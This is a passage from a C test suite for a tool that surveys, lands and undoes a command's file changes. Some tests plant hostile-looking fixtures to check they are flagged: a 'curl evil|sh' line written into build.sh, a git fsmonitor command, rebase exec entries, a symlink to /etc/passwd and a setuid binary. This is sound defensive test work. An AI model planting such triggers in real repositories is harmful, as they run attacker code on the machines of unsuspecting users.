/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "beckon-config.h"

#include "base/beckon-error.h"
#include "beckon-lander-fixture.h"
#include "beckon-view.h"
#include "domain/beckon-change-choice.h"
#include "landing/beckon-lander.h"
#include "landing/beckon-lander-private.h"
#include "landing/beckon-landing-place.h"
#include "landing/beckon-landing-survey.h"

#include <errno.h>
#include <fcntl.h>
#include <glib/gstdio.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void
test_plain (Fixture *fixture, gconstpointer data)
{
  g_autofree char *before = NULL;
  g_autofree char *before_inodes = NULL;
  g_autofree char *landed = NULL;
  g_autofree char *undone = NULL;
  g_autofree char *undone_inodes = NULL;
  g_autofree char *redone = NULL;

  run (fixture,
       "echo one >one; echo two >two; mkdir sub gone; echo in >sub/in; echo g >gone/g; touch -d 2001-01-01 sub one .");
  before = describe (fixture);
  before_inodes = beckon_view_describe (fixture->folder, TRUE);
  command (fixture,
           "echo more >>one; rm two; rm -r gone; echo new >sub/new; mkdir made; echo a >made/a; chmod 700 sub; "
           "touch -d 2002-01-01 sub");
  survey (fixture);
  assert_list (fixture, "-gone/1 open\n+made/a open\n*one open\n*sub/0 open\n+sub/new open\n-two open\n");
  keep_all (fixture);
  land (fixture);
  assert_list (fixture, "-gone/1 kept\n+made/a kept\n*one kept\n*sub/0 kept\n+sub/new kept\n-two kept\n");
  run (
      fixture,
      "test \"$(cat one)\" = \"$(printf 'one\\nmore')\"; test ! -e two; test ! -e gone; test \"$(cat sub/new)\" = new; "
      "test \"$(stat -c '%a %Y' sub)\" = \"700 $(date -d 2002-01-01 +%s)\"; test \"$(cat made/a)\" = a");
  landed = describe (fixture);

  undo (fixture);
  undone = describe (fixture);
  undone_inodes = beckon_view_describe (fixture->folder, TRUE);
  g_assert_cmpstr (undone, ==, before);
  g_assert_cmpstr (undone_inodes, ==, before_inodes);
  assert_list (fixture, "-gone/1 undone\n+made/a undone\n*one undone\n*sub/0 undone\n+sub/new undone\n-two undone\n");
  redo (fixture);
  redone = describe (fixture);
  g_assert_cmpstr (redone, ==, landed);
  assert_list (fixture, "-gone/1 kept\n+made/a kept\n*one kept\n*sub/0 kept\n+sub/new kept\n-two kept\n");
  undo (fixture);
  g_free (undone);
  undone = describe (fixture);
  g_assert_cmpstr (undone, ==, before);
}

static void
test_nothing (Fixture *fixture, gconstpointer data)
{
  run (fixture, "echo one >one; ln -s one link; mkdir sub; echo in >sub/in");
  command (
      fixture,
      "touch one; cat sub/in >x; mv x sub/in; rm link; ln -s one link; mkdir t; rmdir t; chmod 600 one; chmod 644 one");
  survey (fixture);
  assert_list (fixture, "");
}

/* A folder that the person moved in while the command made one of that name holds files that are older than the command. */
static void
test_moved_in (Fixture *fixture, gconstpointer data)
{
  run (fixture, "mkdir ../other; echo mine >../other/old; echo mine >../other/same; mkdir again; echo was >again/x");
  command (fixture, "mkdir new; echo made >new/same; rm -r again; mkdir again; echo made >again/y");
  run (fixture, "mv ../other new");
  survey (fixture);
  assert_list (fixture, "-again/x open\n+again/y open\n*new/same conflict\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "test \"$(cat new/old new/same)\" = \"$(printf 'mine\\nmine')\"; "
                "test \"$(cat again/y)\" = made; test ! -e again/x");
}

/* Another folder stands where the command saw one: it is not what its changes are made for. */
static void
test_replaced_inside (Fixture *fixture, gconstpointer data)
{
  run (fixture, "mkdir -p sub/deep ../other/deep; echo one >sub/deep/one; echo two >sub/two; "
                "echo mine >../other/deep/one; echo mine >../other/two");
  command (fixture, "echo more >>sub/deep/one; rm sub/two");
  run (fixture, "mv sub ../sub; mv ../other sub");
  survey (fixture);
  assert_list (fixture, "*sub/deep/one conflict\n-sub/two conflict\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "test \"$(cat sub/deep/one sub/two)\" = \"$(printf 'mine\\nmine')\"");
}

/* Another folder stands at the path when the command has ended, or when it lands. */
static void
test_other_folder (Fixture *fixture, gconstpointer data)
{
  g_autoptr (BeckonChangeSet) set = NULL;
  g_autoptr (GError) error = NULL;

  run (fixture, "echo one >one; mkdir ../other; echo mine >../other/one");
  beckon_landing_place_bind (fixture->place, fixture->folder, &error);
  g_assert_no_error (error);
  command (fixture, "echo more >one");
  run (fixture, "cd ..; mv folder away; mv other folder");
  set = beckon_landing_survey (fixture->place, fixture->folder, fixture->base, NULL, NULL, NULL, &error);
  g_assert_error (error, BECKON_ERROR, BECKON_ERROR_UNAVAILABLE);
  g_assert_null (set);
  g_clear_error (&error);

  run (fixture, "cd ..; mv folder other; mv away folder");
  survey (fixture);
  keep_all (fixture);
  run (fixture, "cd ..; mv folder away; mv other folder");
  g_assert_false (beckon_lander_land (fixture->landing, &error));
  g_assert_error (error, BECKON_ERROR, BECKON_ERROR_UNAVAILABLE);
  run (fixture, "test \"$(cat one ../away/one)\" = \"$(printf 'mine\\none')\"");
}

/* Other programs read these files by another name, and these links lead where their words alone do not say. */
static void
test_links (Fixture *fixture, gconstpointer data)
{
  run (fixture, "mkdir -p .git/hooks hooks settings a/b/c; echo x >.git/HEAD; ln -s settings .vscode; ln -s env .envrc; "
                "ln -s ../../hooks/commit .git/hooks/commit-msg; ln -s ../../.. a/b/c/up");
  command (fixture, "echo x >settings/tasks.json; echo x >env; echo x >hooks/commit; echo x >hooks/other; "
                    "ln -s a/b/c/up/../../../etc out; ln -s a/b/c/up/env in");
  survey (fixture);
  assert_list (fixture, "+env trigger open\n+hooks/commit trigger open\n+hooks/other open\n+in open\n"
                        "+out leads-out open\n+settings/tasks.json trigger open\n");
}

/* Hooks of a repository within the folder, and what its configuration names, may stand anywhere in the folder. */
static void
test_led_by_git (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q .; git config core.hooksPath myhooks; mkdir -p deep/er src tools outer; git init -q deep/er; "
                "rm -rf deep/er/.git/hooks; ln -s ../../../toolhooks deep/er/.git/hooks; "
                "git -C deep/er config core.fsmonitor '../../tools/watch -x'; git config filter.f.clean 'outer/in/filter %f'; "
                "ln -s ../../src deep/er/.vscode");
  command (fixture, "mkdir myhooks toolhooks; echo x >myhooks/post-index-change; echo x >toolhooks/pre-commit; echo x >tools/watch; "
                    "echo x >tools/other; echo x >src/tasks.json; rmdir outer; ln -s tools outer; echo x >plain");
  survey (fixture);
  assert_list (fixture, "+myhooks/post-index-change trigger open\n*outer trigger open\n+plain open\n"
                        "+src/tasks.json trigger open\n+toolhooks/pre-commit trigger open\n+tools/other open\n"
                        "+tools/watch trigger open\n");
}

/* Files that are too deep to be landed are named, and not lost without a word. */
static void
test_deep (Fixture *fixture, gconstpointer data)
{
  g_autofree char *deep = NULL;
  g_autofree char *line = NULL;
  g_autoptr (GString) path = g_string_new ("d");

  for (guint i = 0; i < 210; i++)
    g_string_append (path, "/d");
  line = g_strdup_printf ("mkdir -p %s", path->str);
  run (fixture, line);
  deep = g_strdup_printf ("echo x >%s/x; echo x >d/x", path->str);
  command (fixture, deep);
  survey (fixture);
  g_assert_cmpuint (beckon_change_set_get_n_changes (fixture->landing->changes), ==, 2);
  g_assert_cmpuint (beckon_change_set_count (fixture->landing->changes, BECKON_FILE_FAILED), ==, 1);
  keep_all (fixture);
  land (fixture);
  g_assert_cmpuint (beckon_change_set_count (fixture->landing->changes, BECKON_FILE_KEPT), ==, 1);
}

/* Git directories within Git's own, pipes there, and links that lead there: nothing of it lands unasked. */
static BeckonFileConcern
get_concern (Fixture *fixture, const char *path)
{
  for (guint i = 0; i < beckon_change_set_get_n_changes (fixture->landing->changes); i++)
    {
      BeckonFileChange *change = beckon_change_set_get (fixture->landing->changes, i);

      if (strcmp (change->path, path) == 0)
        return change->concern;
      for (guint j = 0; change->bound != NULL && j < change->bound->len; j++)
        if (strcmp (((BeckonFileChange *) g_ptr_array_index (change->bound, j))->path, path) == 0)
          return change->concern;
    }

  g_error ("nothing was changed at “%s”", path);
}

/* An index may be written by Git alone: what it names, `git restore` writes. */
static void
test_git_index (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q . && git config user.email a@b && git config user.name a && echo x >x && git add x && git commit -qm x");
  command (fixture, "echo y >y; git add y; cp .git/index index; mkdir -p .git/modules/m; cp .git/index .git/modules/m/index; "
                    "LC_ALL=C sed 's/\\x00\\x01x\\x00/\\x00\\x01.\\x00/' .git/index >.git/index.lock; cp .git/index .git/sharedindex.aa; printf x >.git/sharedindex.ab; "
                    "echo ref: refs/heads/x >.git/modules/m/HEAD");
  survey (fixture);
  g_assert_cmpint (get_concern (fixture, ".git/index"), ==, BECKON_FILE_CONCERN_NONE);
  g_assert_cmpint (get_concern (fixture, ".git/sharedindex.aa"), ==, BECKON_FILE_CONCERN_NONE);
  g_assert_cmpint (get_concern (fixture, "index"), ==, BECKON_FILE_CONCERN_NONE);
  g_assert_cmpint (get_concern (fixture, ".git/index.lock"), ==, BECKON_FILE_CONCERN_TRIGGER);
  g_assert_cmpint (get_concern (fixture, ".git/sharedindex.ab"), ==, BECKON_FILE_CONCERN_TRIGGER);
}

static void
test_git_index_split (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q --object-format=sha256 . && for i in a b c d; do echo $i >$i; done; git add .");
  command (fixture, "git update-index --split-index; echo x >x; git add x");
  survey (fixture);
  g_assert_cmpint (get_concern (fixture, ".git/index"), ==, BECKON_FILE_CONCERN_NONE);
}

/* There is more to read than is read, so that anything that may be run may be what some hook leads to. */
static void
test_led_by_unread (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q .; mkdir .git/modules; cd .git/modules; seq -f m%g 1001 | xargs mkdir; cd ../..; echo x >was; echo x >old; "
                "chmod +x old");
  command (fixture, "echo x >new; echo x >new.txt; echo x >run; chmod +x run was; echo y >old");
  survey (fixture);
  assert_list (fixture, "+new trigger open\n+new.txt open\n*old trigger open\n+run trigger open\n*was trigger open\n");
}

static void
test_within_git (Fixture *fixture, gconstpointer data)
{
  guint n_objects = 0;

  run (fixture, "git init -q .; mkdir -p .git/logs");
  command (fixture, "for d in logs refs objects/ab; do mkdir -p .git/$d/e; git init -q --bare .git/$d/e/bare; "
                    "mv .git/$d/e/bare/* .git/$d/e; rmdir .git/$d/e/bare; done; rmdir .git/refs/e/objects/*; rm -f .git/index; mkfifo .git/index; "
                    "ln -s .git/logs/e vendor");
  survey (fixture);
  g_assert_cmpuint (beckon_change_set_get_n_changes (fixture->landing->changes), >, 3);
  for (guint i = 0; i < beckon_change_set_get_n_changes (fixture->landing->changes); i++)
    {
      BeckonFileChange *change = beckon_change_set_get (fixture->landing->changes, i);

      /* Among references, which may have any name, only the objects are what makes a Git directory of the others. */
      gboolean is_ref = g_str_has_prefix (change->path, ".git/refs/") || g_str_has_prefix (change->path, ".git/logs/");

      g_test_message ("%s", change->path);
      for (guint j = 0; change->git != NULL && j < change->bound->len; j++)
        {
          const char *path = ((BeckonFileChange *) g_ptr_array_index (change->bound, j))->path;

          g_assert_true ((g_str_has_prefix (path, ".git/refs/") || g_str_has_prefix (path, ".git/logs/"))
                         && strstr (path, "/e/objects") == NULL);
        }
      if (change->git != NULL)
        continue;
      n_objects += is_ref && change->concern == BECKON_FILE_CONCERN_TRIGGER;
      if (is_ref)
        g_assert_cmpint (change->concern == BECKON_FILE_CONCERN_TRIGGER, ==, strstr (change->path, "/e/objects") != NULL);
      else
        g_assert_cmpint (change->concern, ==, BECKON_FILE_CONCERN_TRIGGER);
    }
  g_assert_cmpuint (n_objects, ==, 3);
}

static char *locked;
static guint n_looks;

static void
look_at_lock (void)
{
  int fd = open (locked, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

  g_assert_cmpint (flock (fd, LOCK_EX | LOCK_NB), ==, -1);
  g_assert_cmpint (errno, ==, EWOULDBLOCK);
  close (fd);
  n_looks++;
}

/* Another process neither lands nor undoes the same meanwhile, nor removes it. */
static void
test_locked (Fixture *fixture, gconstpointer data)
{
  locked = fixture->place;
  run (fixture, "echo one >one");
  command (fixture, "echo more >one");
  survey (fixture);
  keep_all (fixture);
  beckon_lander_hook = look_at_lock;
  land (fixture);
  undo (fixture);
  beckon_lander_hook = NULL;
  g_assert_cmpuint (n_looks, >, 4);
}

static char *blocked;

/* The first time the states are written down, and then something moves. */
static void
block_later (void)
{
  static guint n;

  if (++n == 2)
    g_mkdir (blocked, 0700);
}

/* Moves on a full disk have happened all the same: they have not failed, and the files that they replaced are kept. */
static void
test_unwritten (Fixture *fixture, gconstpointer data)
{
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;

  blocked = g_build_filename (fixture->place, "states.part", NULL);
  run (fixture, "echo one >one; echo two >two");
  before = describe (fixture);
  command (fixture, "echo more >one; rm two; echo new >three");
  survey (fixture);
  keep_all (fixture);
  g_test_expect_message ("beckon-landing", G_LOG_LEVEL_MESSAGE, "what landed could not be written down: *");
  beckon_lander_hook = block_later;
  land (fixture);
  beckon_lander_hook = NULL;
  g_test_assert_expected_messages ();
  assert_list (fixture, "*one kept\n+three kept\n-two kept\n");
  run (fixture, "test \"$(cat one three)\" = \"$(printf 'more\\nnew')\"; test ! -e two");

  g_assert_cmpint (g_rmdir (blocked), ==, 0);
  undo (fixture);
  after = describe (fixture);
  g_assert_cmpstr (after, ==, before);
  assert_list (fixture, "*one undone\n+three undone\n-two undone\n");
  g_clear_pointer (&blocked, g_free);
}

/* Everything that got out through Git, and what else is run by itself, waits; what a commit writes does not. */
static void
test_planted (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q . && git config user.email a@b && git config user.name a && echo x >x && git add x && "
                "git commit -qm x && mkdir plain vendor && echo a >plain/a");
  command (fixture, "echo y >>x; git add x; git commit -qm y; "
                    "printf '[core]\\n\\tfsmonitor = touch /tmp/out\\n' >>.git/config; "
                    "echo '* filter=x' >.git/info/attributes; mkdir -p .git/rebase-merge; echo 'exec x' >.git/rebase-merge/git-rebase-todo; "
                    "mkdir vendor/lib; git -C vendor/lib init -q; "
                    "echo ref: refs/heads/main >plain/HEAD; printf '[core]\\n\\tbare = true\\n' >plain/config; mkdir -p plain/objects plain/refs; "
                    "mkdir sub; echo 'gitdir: .bare' >sub/.git; "
                    "echo x >.envrc; mkdir -p .vscode; echo x >.vscode/tasks.json; ln -s /etc/passwd out; ln -s ../../.. up; "
                    "ln -s x in; cp /bin/true suid; chmod 4755 suid");
  survey (fixture);
  for (guint i = 0; i < beckon_change_set_get_n_changes (fixture->landing->changes); i++)
    {
      static const char *const ordinary[] = { "x", "in", "plain/objects", "plain/refs" };
      static const char *const outward[] = { "out", "up" };
      BeckonFileChange *change = beckon_change_set_get (fixture->landing->changes, i);
      BeckonFileConcern expected = BECKON_FILE_CONCERN_TRIGGER;

      for (guint j = 0; j < G_N_ELEMENTS (ordinary); j++)
        if (strcmp (change->path, ordinary[j]) == 0)
          expected = BECKON_FILE_CONCERN_NONE;
      for (guint j = 0; j < G_N_ELEMENTS (outward); j++)
        if (strcmp (change->path, outward[j]) == 0)
          expected = BECKON_FILE_CONCERN_LEADS_OUT;
      if (strcmp (change->path, "suid") == 0)
        expected = BECKON_FILE_CONCERN_SET_ID;
      if (strcmp (change->path, ".git") == 0)
        expected = BECKON_FILE_CONCERN_NONE;
      if (change->concern != expected)
        g_test_message ("%s", change->path);
      g_assert_cmpstr (beckon_file_concern_to_string (change->concern), ==, beckon_file_concern_to_string (expected));
      change->fate = change->concern == BECKON_FILE_CONCERN_NONE ? BECKON_FILE_KEPT : BECKON_FILE_LEFT_OUT;
    }

  /* The commit lands, and Git sees exactly what landed. */
  land (fixture);
  run (fixture, "test \"$(git log --format=%s | tr '\\n' ' ')\" = 'y x '; git fsck >/dev/null 2>&1; "
                "test \"$(git status --porcelain | sort | tr '\\n' ' ')\" = '?? in ?? plain/ '; "
                "test ! -e vendor/lib; test ! -e .envrc; test ! -e .git/info/attributes; ! grep -q fsmonitor .git/config; "
                "test ! -e plain/HEAD; test ! -e sub; test ! -e suid; test ! -L out");
}

/* A Git directory in two steps: the file that makes it one says what else it makes count. */
static void
test_bare_later (Fixture *fixture, gconstpointer data)
{
  BeckonFileChange *change;

  run (fixture, "mkdir -p plain/objects plain/hooks other; echo '[core]' >plain/config");
  command (fixture, "echo 'ref: refs/heads/main' >plain/HEAD; mkdir plain/refs; echo x >other/HEAD");
  survey (fixture);
  assert_list (fixture, "+other/HEAD trigger open\n+plain/HEAD trigger open\n+plain/refs/0 open\n");
  change = beckon_change_set_get (fixture->landing->changes, 1);
  g_assert_nonnull (change->remark);
  g_assert_nonnull (strstr (change->remark, "config, hooks, objects, refs"));
  g_assert_cmpstr (beckon_change_set_get (fixture->landing->changes, 0)->remark, ==, "Git obeys it");
  keep_all (fixture);
  land (fixture);
  g_assert_null (beckon_change_set_get (fixture->landing->changes, 1)->remark);
}

/* Half a commit would be worse than none. */
static void
test_half_commit (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q . && git config user.email a@b && git config user.name a && echo x >x && git add x && git commit -qm x");
  command (fixture, "echo y >>x; git add x; git commit -qm y");
  run (fixture, "echo mine >other; git add other");
  survey (fixture);
  keep_all (fixture);
  land (fixture);
  for (guint i = 0; i < beckon_change_set_get_n_changes (fixture->landing->changes); i++)
    {
      BeckonFileChange *change = beckon_change_set_get (fixture->landing->changes, i);
      gboolean is_half = strcmp (change->path, ".git") == 0;

      g_assert_cmpint (change->fate, ==, is_half ? BECKON_FILE_CONFLICT : BECKON_FILE_KEPT);
    }
  run (fixture, "test \"$(git log --format=%s)\" = x; git status --porcelain | grep -q '^A  other'; git fsck >/dev/null 2>&1");
}

/* The same between survey and landing. */
static void
test_half_commit_later (Fixture *fixture, gconstpointer data)
{
  run (fixture, "git init -q . && git config user.email a@b && git config user.name a && echo x >x && git add x && git commit -qm x");
  command (fixture, "echo y >>x; git add x; git commit -qm y");
  survey (fixture);
  keep_all (fixture);
  run (fixture, "echo mine >other; git add other");
  land (fixture);
  run (fixture, "test \"$(git log --format=%s)\" = x; git status --porcelain | grep -q '^A  other'; git fsck >/dev/null 2>&1");
}

/* A conflict touches nothing of the person's, whatever the command did to it. */
static void
test_conflicts (Fixture *fixture, gconstpointer data)
{
  run (fixture, "for i in a b c d same; do echo $i >$i; done; mkdir gone deleted; echo x >gone/x; echo y >deleted/y; echo n >renamed");
  command (fixture, "echo theirs >>a; rm b; echo theirs >new; echo theirs >>c; rm -r deleted; echo z >gone/z; echo t >d; echo q >same; "
                    "mv renamed moved");
  run (fixture, "echo mine >>a; echo mine >>b; echo mine >new; rm c; echo mine >deleted/mine; rm -r gone; rm d; mkdir d; echo q >same");
  survey (fixture);

  /* A file that is gone might have been renamed, as long as the command deleted anything. */
  assert_list (fixture, "*a conflict open\n-b conflict open\n+c open\n*d conflict\n-deleted/2 conflict\n+gone/z conflict\n"
                        ">moved < renamed open\n*new conflict open\n");
}

static void
test_conflict_kept (Fixture *fixture, gconstpointer data)
{
  run (fixture, "for i in a b c; do echo $i >$i; done; mkdir whole; echo x >whole/x");
  command (fixture, "echo theirs >>a; rm b; echo theirs >new; mkdir made; echo t >made/t; rm -r whole; echo t >>c");
  survey (fixture);
  keep_all (fixture);
  run (fixture, "echo mine >>a; echo mine >b; echo mine >new; mkdir made; echo mine >made/m; echo mine >whole/mine; rm c");
  land (fixture);
  assert_list (fixture, "*a conflict\n-b conflict\n*c conflict\n+made/t conflict\n+new conflict\n-whole/1 conflict\n");
  run (fixture, "test \"$(cat a)\" = \"$(printf 'a\\nmine')\"; test \"$(cat b new whole/mine made/m | uniq)\" = mine; test ! -e c; "
                "test ! -e made/t; test -e whole/x");
}

static void
test_gone_meanwhile (Fixture *fixture, gconstpointer data)
{
  run (fixture, "echo c >c; mkdir sub; echo x >sub/x");
  command (fixture, "echo theirs >>c; echo theirs >>sub/x");
  run (fixture, "rm -r c sub");
  survey (fixture);
  assert_list (fixture, "+c conflict\n+sub/x conflict\n");
  keep_all (fixture);
  land (fixture);
  run (fixture, "test ! -e c; test ! -e sub");
}

/* Text in another encoding has a difference, which is kept or not as a whole. */
static void
test_encoded (Fixture *fixture, gconstpointer data)
{
  const BeckonFileChange *change;

  run (fixture, "printf 'caf\\351\\n\\n\\n\\n\\n\\n\\n\\n\\n\\nend\\n' >l; printf 'same\\n' >u");
  command (fixture, "printf 'th\\351\\n\\n\\n\\n\\n\\n\\n\\n\\n\\nEND\\n' >l; printf 's\\0a\\0m\\0e\\0\\n\\0' >u");
  survey (fixture);
  change = beckon_change_set_get (fixture->landing->changes, 0);
  g_assert_true (g_str_has_prefix (change->diff, "@@ -1,4 +1,4 @@\n-café\n+thé\n"));
  g_assert_cmpuint (change->n_added, ==, 2);
  g_assert_cmpuint (change->n_hunks, ==, 1);
  change = beckon_change_set_get (fixture->landing->changes, 1);
  g_assert_null (change->diff);
  g_assert_false (change->is_text);
  keep_all (fixture);
  land (fixture);
  run (fixture, "printf 'th\\351\\n' | head -1 >x; head -1 l | cmp - x; rm x");
}

/* Bytes that are UTF-8 by chance are no text that anybody reads, but one stray character does not make a text another thing. */
static void
test_controls (Fixture *fixture, gconstpointer data)
{
  const BeckonFileChange *change;

  command (fixture, "printf 'abc\001\002\003def\n' >film.part; printf 'A line of text with one \001 in it\033[1m\n' >log");
  survey (fixture);
  change = beckon_change_set_get (fixture->landing->changes, 0);
  g_assert_false (change->is_text);
  g_assert_null (change->diff);
  g_assert_cmpstr (beckon_file_change_get_why_unshown (change), ==, "Binary file");
  change = beckon_change_set_get (fixture->landing->changes, 1);
  g_assert_true (change->is_text);
  g_assert_nonnull (change->diff);
}

/* Two commands in one folder have two views: the second conflicts where the first has landed. */
static void
test_two_commands (Fixture *fixture, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *place = beckon_landing_place_make ("other", &error);
  g_autoptr (BeckonChangeSet) other = NULL;
  gint64 base;

  run (fixture, "echo a >a; echo b >b");
  base = beckon_landing_survey_now ();
  g_assert_cmpint (beckon_view_run (place, fixture->folder, "echo second >>a; echo second >>b; echo c >c"), ==, 0);
  command (fixture, "echo first >>a");
  survey (fixture);
  keep_all (fixture);
  land (fixture);
  other = beckon_landing_survey (place, fixture->folder, base, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (beckon_change_set_get_n_changes (other), ==, 3);
  g_assert_cmpint (beckon_change_set_get (other, 0)->fate, ==, BECKON_FILE_OPEN);
  g_assert_cmpint (beckon_change_set_get (other, 0)->concern, ==, BECKON_FILE_CONCERN_CONFLICT);
  g_assert_nonnull (beckon_change_set_get (other, 0)->diff);
  g_assert_cmpint (beckon_change_set_get (other, 1)->fate, ==, BECKON_FILE_OPEN);
  g_assert_cmpint (beckon_change_set_get (other, 2)->fate, ==, BECKON_FILE_OPEN);
  beckon_landing_place_remove (place, &error);
  g_assert_no_error (error);
}

static void
test_part_of_folder (Fixture *fixture, gconstpointer data)
{
  run (fixture, "seq 1 40 >numbers");
  command (fixture, "sed -i -e 's/^3$/three/' -e 's/^20$/twenty/' -e 's/^38$/last/' numbers; mkdir made; for i in 1 2 3; do echo $i >made/$i; done");
  survey (fixture);
  g_assert_cmpuint (beckon_change_set_get (fixture->landing->changes, 3)->n_hunks, ==, 3);
  {
    g_autoptr (BeckonChangeChoice) choice = beckon_change_choice_new ();

    beckon_change_choice_set_left_out (choice, 1, TRUE);
    beckon_change_choice_set_hunk_left_out (choice, 3, 1, TRUE);
    beckon_change_choice_apply (choice, fixture->landing->changes);
  }
  land (fixture);
  run (fixture, "test \"$(grep -c . numbers)\" = 40; grep -q three numbers; grep -q '^20$' numbers; grep -q last numbers; "
                "test ! -e made/2; test -e made/1; test -e made/3");
  undo (fixture);
  run (fixture, "test \"$(cat numbers)\" = \"$(seq 1 40)\"; test ! -e made");
  redo (fixture);
  run (fixture, "grep -q three numbers; grep -q '^20$' numbers; test -e made/3; test ! -e made/2");
}

static void
test_many (Fixture *fixture, gconstpointer data)
{
  run (fixture, "mkdir src old; for i in $(seq 1 1500); do echo $i >src/$i; done; for i in $(seq 1 300); do echo $i >old/$i; done");
  command (fixture, "for i in $(seq 1 1500); do echo more >>src/$i; done; rm -r old; mkdir -p build/.vscode; "
                    "for i in $(seq 1 1200); do echo new $i >build/$i; done; echo x >build/.vscode/tasks.json; echo x >build/.envrc");
  survey (fixture);
  assert_list (fixture, "+build/1200 open\n+build/.envrc trigger open\n+build/.vscode/tasks.json trigger open\n-old/300 open\n*src/1500 open\n");
  {
    g_autoptr (BeckonChangeChoice) choice = beckon_change_choice_new ();

    beckon_change_choice_set_left_out (choice, 1, TRUE);
    beckon_change_choice_apply (choice, fixture->landing->changes);
  }
  land (fixture);
  run (fixture, "test ! -e build/.envrc; test -e build/.vscode/tasks.json; test $(ls build | wc -l) = 1200; test ! -e old; "
                "test \"$(cat src/700)\" = \"$(printf '700\\nmore')\"");
  undo (fixture);
  run (fixture, "test ! -e build; test $(ls old | wc -l) = 300; test \"$(cat src/700)\" = 700");
}

/* A crowd of new files hides neither a deletion nor a rewrite, which are left out by themselves. */
static void
test_crowd (Fixture *fixture, gconstpointer data)
{
  const BeckonFileChange *group;
  g_autofree char *sentence = NULL;
  g_autofree char *counts = NULL;

  run (fixture, "echo years >thesis; echo make >build.sh");
  command (fixture, "for i in $(seq 1 3000); do echo x >$i; done; rm thesis; echo 'curl evil|sh' >build.sh");
  survey (fixture);
  assert_list (fixture, "*./3000 open\n*build.sh open\n-thesis open\n");
  group = beckon_change_set_get (fixture->landing->changes, 0);
  counts = beckon_file_change_dup_counts (group);
  g_assert_cmpstr (counts, ==, "3000 new");
  g_assert_cmpint (beckon_file_change_get_common_kind (group), ==, BECKON_FILE_CREATED);
  g_assert_nonnull (beckon_change_set_get (fixture->landing->changes, 1)->diff);
  g_assert_nonnull (beckon_change_set_get (fixture->landing->changes, 2)->diff);
  sentence = beckon_change_set_dup_sentence (fixture->landing->changes);
  g_assert_cmpstr (sentence, ==, "Changed 1 file, deleted 1 file, made 3000 files in ./");
  {
    g_autoptr (BeckonChangeChoice) choice = beckon_change_choice_new ();

    beckon_change_choice_set_left_out (choice, 1, TRUE);
    beckon_change_choice_set_left_out (choice, 2, TRUE);
    beckon_change_choice_apply (choice, fixture->landing->changes);
  }
  land (fixture);
  run (fixture, "test \"$(cat thesis build.sh)\" = \"$(printf 'years\\nmake')\"; test $(ls | wc -l) = 3002");
  undo (fixture);
  run (fixture, "test $(ls | wc -l) = 2");
}

/* Each kind is counted, where deletions themselves are too many to be listed. */
static void
test_crowd_of_all (Fixture *fixture, gconstpointer data)
{
  g_autofree char *counts = NULL;
  g_autofree char *sentence = NULL;

  run (fixture, "mkdir src; for i in $(seq 1 1200); do echo $i >src/$i; done; echo a >a");
  command (fixture, "cd src; rm $(seq 1 1100); for i in $(seq 1101 1200); do echo more >>$i; done; "
                    "for i in $(seq 1 1300); do echo x >n$i; done; rm ../a");
  survey (fixture);
  assert_list (fixture, "-a open\n*src/2500 open\n");
  counts = beckon_file_change_dup_counts (beckon_change_set_get (fixture->landing->changes, 1));
  g_assert_cmpstr (counts, ==, "1300 new, 100 changed, 1100 deleted");
  sentence = beckon_change_set_dup_sentence (fixture->landing->changes);
  g_assert_cmpstr (sentence, ==,
                   "Deleted 1 file, changed 100 files in src/, deleted 1100 files in src/, made 1300 files in src/");
  keep_all (fixture);
  land (fixture);
  run (fixture, "test ! -e a; test $(ls src | wc -l) = 1400");
  undo (fixture);
  run (fixture, "test -e a; test $(ls src | wc -l) = 1200");
}

/* Only what waits is kept of a folder whose rest is left out. */
static void
test_least (Fixture *fixture, gconstpointer data)
{
  command (fixture, "mkdir -p build/deep/er; for i in $(seq 1 1200); do echo $i >build/deep/$i; done; echo x >build/deep/er/.envrc");
  survey (fixture);
  assert_list (fixture, "+build/1200 open\n+build/deep/er/.envrc trigger open\n");
  {
    g_autoptr (BeckonChangeChoice) choice = beckon_change_choice_new ();

    beckon_change_choice_set_left_out (choice, 0, TRUE);
    beckon_change_choice_apply (choice, fixture->landing->changes);
  }
  land (fixture);
  run (fixture, "test \"$(find build -type f)\" = build/deep/er/.envrc");
}

static void
survey_with (Fixture *fixture, BeckonMask *mask)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (BeckonChangeSet) set
    = beckon_landing_survey (fixture->place, fixture->folder, fixture->base, NULL, mask, NULL, &error);

  g_assert_no_error (error);
  fixture->landing = beckon_landing_new ("call", fixture->folder, fixture->place, fixture->base, set);
}

/* A file with a secret is not kept, and no difference shows it. */
static void
test_secret (Fixture *fixture, gconstpointer data)
{
  g_autoptr (BeckonMask) mask = beckon_mask_new ();
  g_autofree char *look = g_strdup_printf ("! grep -rq hunter2secret '%s'", fixture->place);

  beckon_mask_add (mask, "hunter2secret", "[secret]");
  run (fixture, "echo token=hunter2secret >token; mkdir gone; echo hunter2secret >gone/.env; echo x >gone/x; echo a >a");
  command (fixture, "echo more >>token; rm -r gone; echo b >>a");
  survey_with (fixture, mask);
  assert_list (fixture, "*a open\n-gone/2 open\n-gone/.env open\n*token open\n");
  g_assert_nonnull (strstr (beckon_change_set_get (fixture->landing->changes, 3)->diff, "token=[secret]"));
  g_assert_true (beckon_change_set_get (fixture->landing->changes, 3)->is_withheld);
  g_assert_true (beckon_change_set_get (fixture->landing->changes, 2)->is_withheld);
  keep_all (fixture);
  land (fixture);
  g_assert_cmpint (system (look), ==, 0);
  undo (fixture);
  assert_list (fixture, "*a undone\n-gone/2 undone\n-gone/.env kept\n*token kept\n");
  run (fixture, "test -e gone/x; test ! -e gone/.env; grep -q more token; test \"$(cat a)\" = a");
}

/* Files that changed since are not undone; the rest is. */
static void
test_undo_refused (Fixture *fixture, gconstpointer data)
{
  run (fixture, "echo a >a; echo b >b; echo c >c");
